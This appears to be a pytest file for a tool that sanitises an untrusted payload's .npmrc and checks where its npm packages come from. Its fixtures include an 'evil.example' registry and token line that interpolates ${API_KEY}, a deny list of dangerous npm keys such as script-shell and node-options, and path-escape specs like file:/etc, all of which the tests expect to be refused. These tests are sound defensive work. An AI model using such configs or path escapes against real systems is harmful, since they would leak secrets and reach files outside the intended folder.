@@ -1,0 +1,272 @@
+"""What npm is told, and where packages may come from: rules about text, without npm."""
+
+from __future__ import annotations
+
+import json
+import posixpath
+import subprocess
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from imgkit.errors import InputError
+from imgkit.rootfs.npmconfig import Setting, parse, settings
+from imgkit.rootfs.npmsources import check_lock, check_manifest, is_git, leaves, read_json
+from tests.conftest import need_program
+
+MANIFEST = Path("package.json")
+
+
+def taken(tmp_path: Path, text: str, hosts: str = "", **environment: str) -> tuple[list[Setting], tuple[str, ...]]:
+    """What is taken over of a payload's ``.npmrc`` and of one of the host's, and what was ignored."""
+    for name, content in (("payload", text), ("host", hosts)):
+        (tmp_path / name).write_text(content)
+    found = settings(tmp_path / "payload", [tmp_path / "host", tmp_path / "missing"], environment)
+    return list(parse(found.text)), found.ignored
+
+
+HARMLESS = """
+; a comment
+registry = https://registry.example/
+@scope:registry="https://other.example/npm"
+//other.example/npm/:_authToken='token'
+legacy-peer-deps
+audit=false
+"""
+
+
+def test_what_a_payload_may_say(tmp_path: Path) -> None:
+    assert taken(tmp_path, HARMLESS) == (
+        [
+            Setting("registry", "https://registry.example/"),
+            Setting("@scope:registry", "https://other.example/npm"),
+            Setting("//other.example/npm/:_authToken", "token"),
+            Setting("legacy-peer-deps", "true"),
+        ],
+        (),
+    )
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "git",
+        "script-shell",
+        "shell",
+        "editor",
+        "viewer",
+        "node-options",
+        "init-module",
+        "prefix",
+        "globalconfig",
+        "userconfig",
+        "cache",
+        "tmp",
+        "unsafe-perm",
+        "allow-git",
+        "https-proxy",
+        "strict-ssl",
+        "cafile",
+        "GIT",
+        "//registry.example/:keyfile",
+        "//registry.example/:tokenHelper",
+        "include",
+        "logs-dir",
+        "node-gyp",
+        "Git ",
+    ],
+)
+def test_what_a_payload_may_not_say(tmp_path: Path, key: str) -> None:
+    for line in (f"{key}=x", f'"{key}" = "x"', f" {key} = x ; registry=y"):
+        found, ignored = taken(tmp_path, line + "\nregistry=r\n")
+        assert found == [Setting("registry", "r")]
+        assert [name.strip() for name in ignored] == [key.strip()]
+
+
+def test_a_payload_does_not_get_at_variables(tmp_path: Path) -> None:
+    text = "//evil.example/:_authToken=${API_KEY}\nregistry=https://evil.example/${API_KEY}/\n"
+    found, ignored = taken(tmp_path, text, API_KEY="secret")
+    assert found == []
+    assert ignored == ("//evil.example/:_authToken (with a variable)", "registry (with a variable)")
+
+
+def test_whoever_builds_says_more(tmp_path: Path) -> None:
+    hosts = "//own.example/:_authToken=${TOKEN}\ncafile=/etc/ca.pem\nca[]=one\nca[]=two\ngit=/bin/git\nregistry=own\n"
+    variables = {"TOKEN": "secret", "npm_config_https_proxy": "p", "NPM_CONFIG_REGISTRY": "v", "npm_config_git": "x"}
+    found, ignored = taken(tmp_path, "", hosts, **variables)
+    assert [(each.key, each.value) for each in found] == [
+        ("//own.example/:_authToken", "secret"),
+        ("cafile", "/etc/ca.pem"),
+        ("ca[]", "one"),
+        ("ca[]", "two"),
+        ("registry", "own"),
+        ("registry", "v"),
+        ("https-proxy", "p"),
+    ]
+    assert ignored == ()
+
+
+def test_names_in_a_warning_are_plain(tmp_path: Path) -> None:
+    _, ignored = taken(tmp_path, "\x1b[31mgit=x\n" + "k" * 500 + "=x\n")
+    assert ignored == ("?[31mgit", "k" * 80)
+
+
+@given(st.text(alphabet="git=registry\"'\\;#[]\n\r\v\x85\u2028 ${}:/@.", max_size=60))
+def test_no_text_gets_another_key_through(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
+    folder = tmp_path_factory.mktemp("npmrc")
+    (folder / ".npmrc").write_bytes(text.encode())
+    written = settings(folder / ".npmrc", [], {}).text
+    for line in written.splitlines():
+        key, _, value = line.partition("=")
+        assert key == "registry" or key.endswith(":registry"), text
+        json.loads(value)
+    assert "${" not in written
+
+
+def test_npm_reads_the_file_as_it_is_meant(tmp_path: Path) -> None:
+    """The real npm: values with everything that means something in an INI file."""
+    value = "a;b#c=\\d\"e'[f]"
+    (tmp_path / "host").write_text(f"proxy={json.dumps(value)}\nregistry=https://registry.example/x\n")
+    (tmp_path / "made").write_text(settings(tmp_path / "none", [tmp_path / "host"], {}).text)
+    argv = [need_program("npm"), f"--userconfig={tmp_path / 'made'}", "config", "get", "@x:registry", "registry"]
+    (tmp_path / "made").write_text((tmp_path / "made").read_text() + f"@x:registry={json.dumps(value)}\n")
+    said = subprocess.run(argv, capture_output=True, text=True, check=True, cwd=tmp_path).stdout
+    assert f"@x:registry={value}" in said
+    assert "registry=https://registry.example/x" in said
+
+
+@pytest.mark.parametrize("make", ["large", "pipe"])
+def test_an_npmrc_that_cannot_be_read(tmp_path: Path, make: str) -> None:
+    path = tmp_path / ".npmrc"
+    if make == "large":
+        path.write_bytes(b"#" * (300 << 10))
+    else:
+        path.mkdir()
+    with pytest.raises(InputError, match=r"npmrc: (has more than|neither a file)"):
+        settings(path, [], {})
+
+
+# ---- where packages come from ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "git+https://h/x.git",
+        "git+ssh://git@h/x",
+        "git://h/x",
+        "ssh://git@h/x",
+        "git@h:a/b.git",
+        "user/name",
+        "user/name#semver:^1",
+        "github:a/b",
+        "gitlab:a/b",
+        "bitbucket:a/b",
+        "gist:0123",
+        "git+file:///x",
+        "GIT+SSH://h/x",
+        "https://github.com/a/b",
+        "https://github.com/a/b.git#main",
+        "https://user@gitlab.com/a/b/",
+    ],
+)
+def test_git(spec: str) -> None:
+    assert is_git(spec)
+    with pytest.raises(InputError, match="comes from a git repository") as caught:
+        check_manifest(MANIFEST, {"dependencies": {"x": spec}}, allow_git=False, development=False)
+    assert "npm_git = True" in str(caught.value.hint)
+    check_manifest(MANIFEST, {"dependencies": {"x": spec}}, allow_git=True, development=False)
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "1.0.0",
+        "^1",
+        "*",
+        "",
+        "latest",
+        ">=1 <2 || 3.x",
+        "npm:other@1",
+        "npm:@scope/other@^1",
+        "file:packages/x.tgz",
+        "./packages/x",
+        "file:./x",
+        "link:x",
+        "https://h.example/x.tgz",
+        "https://github.com/a/b/archive/x.tar.gz",
+        "https://registry.example/@a/b/-/b-1.0.0.tgz",
+    ],
+)
+def test_sources_that_may_be(spec: str) -> None:
+    check_manifest(MANIFEST, {"dependencies": {"x": spec}}, allow_git=False, development=False)
+    check_lock(MANIFEST, {"packages": {"node_modules/x": {"resolved": spec}}}, allow_git=False)
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "file:/etc",
+        "file:///etc",
+        "file:../x",
+        "../x",
+        "/etc",
+        "~/x",
+        "file:~/x",
+        "link:../x",
+        "file:a/../../x",
+        "file:%2e%2e/x",
+        "C:\\x",
+        "file:..\\x",
+        "file://host/share",
+    ],
+)
+def test_sources_elsewhere(spec: str) -> None:
+    for allow_git in (False, True):
+        with pytest.raises(InputError, match="outside of the payload's folder"):
+            check_manifest(MANIFEST, {"dependencies": {"x": spec}}, allow_git=allow_git, development=False)
+
+
+def test_packages_for_development_matter_without_a_lock_file() -> None:
+    manifest = {"devDependencies": {"x": "a/b"}}
+    check_manifest(MANIFEST, manifest, allow_git=False, development=False)
+    with pytest.raises(InputError, match="git repository"):
+        check_manifest(MANIFEST, manifest, allow_git=False, development=True)
+    check_lock(MANIFEST, {"packages": {"node_modules/x": {"resolved": "git+ssh://h/x", "dev": True}}}, allow_git=False)
+
+
+def test_lock_files_of_version_1() -> None:
+    lock = {"dependencies": {"a": {"version": "1.0.0", "dependencies": {"b": {"version": "github:a/b#c"}}}}}
+    with pytest.raises(InputError, match="'b': 'github:a/b#c' comes from a git repository"):
+        check_lock(MANIFEST, lock, allow_git=False)
+
+
+@given(st.lists(st.sampled_from(["..", ".", "", "a", "b"]), min_size=1, max_size=7))
+def test_paths_leave_as_path_arithmetic_says(parts: list[str]) -> None:
+    path = "/".join(parts)
+    real = posixpath.normpath(posixpath.join("/top/folder", path))
+    assert leaves(path) == (not (real + "/").startswith("/top/folder/"))
+
+
+@pytest.mark.parametrize("field", ["dependencies", "overrides", "workspaces", "packages"])
+def test_fields_of_another_shape_are_npms_to_refuse(field: str) -> None:
+    for value in (None, 3, "x", [3], {"x": 3}, {"x": [3]}):
+        check_manifest(MANIFEST, {field: value}, allow_git=False, development=True)
+        check_lock(MANIFEST, {field: value}, allow_git=False)
+    with pytest.raises(InputError, match="not an object"):
+        check_lock(MANIFEST, [], allow_git=False)
+
+
+def test_json_that_is_absurd(tmp_path: Path) -> None:
+    path = tmp_path / "x.json"
+    path.write_text("[" * 200_000)
+    with pytest.raises(InputError, match="nested too deeply"):
+        read_json(path)
+    with path.open("wb") as sink:
+        sink.truncate(65 << 20)
+    with pytest.raises(InputError, match="has more than 64 MiB"):
+        read_json(path)
+    with pytest.raises(InputError, match="not a regular file"):
+        read_json(Path("/dev/zero"))
